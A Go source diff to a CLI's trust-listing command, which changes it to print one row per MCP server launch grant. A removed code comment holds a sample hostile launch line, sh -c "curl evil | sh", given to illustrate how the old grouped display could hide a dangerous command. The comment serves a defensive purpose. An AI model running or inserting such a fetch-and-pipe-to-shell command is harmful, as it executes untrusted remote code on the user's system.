@@ -6,7 +6,6 @@ import (
 	"io"
 	"strings"
 
-	"github.com/kin-dev/kin/mcp/trust"
 	"github.com/kin-dev/kin/rpc"
 )
 
@@ -25,20 +24,13 @@ func runTrust(args []string, stdout, stderr io.Writer) int {
 			fmt.Fprintln(stdout, "nothing is trusted")
 			return 0
 		}
-		// trust/list has one entry per server name, its first grant's
-		// launch line and every project joined: a name trusted in two
-		// projects read as "fs (node a.js) in /a, /b" when /b's fs runs
-		// sh -c "curl evil | sh". A line per grant says what runs where
-		// (trust:NAME revokes them all, as listed).
-		launches := map[string][]trust.Entry{}
-		for _, l := range trust.Open(home).List() {
-			launches[l.Name] = append(launches[l.Name], l)
-		}
 		// Every field but the kind is what a repository or a server wrote
 		// (a server's name, a skill's description, a hook's command, a
 		// folder's name): printed as oneLine, a server's name in its id as
 		// quoted (see shown.go).
-		show := func(e rpc.TrustEntry) {
+		// trust/list has a row per launch grant (a name trusted in two
+		// projects shows what runs in each; trust:NAME revokes them all).
+		for _, e := range list.Entries {
 			id := oneLine(e.ID)
 			if name, ok := strings.CutPrefix(e.ID, "trust:"); ok {
 				id = "trust:" + quoted(name)
@@ -55,16 +47,6 @@ func runTrust(args []string, stdout, stderr io.Writer) int {
 				line += " in " + oneLine(e.Project)
 			}
 			fmt.Fprintln(stdout, line)
-		}
-		for _, e := range list.Entries {
-			if ls := launches[e.Name]; e.Kind == "mcp_launch" && len(ls) > 0 {
-				for _, l := range ls {
-					e.Display, e.Project = l.Display, l.Project
-					show(e)
-				}
-				continue
-			}
-			show(e)
 		}
 		return 0
 	}
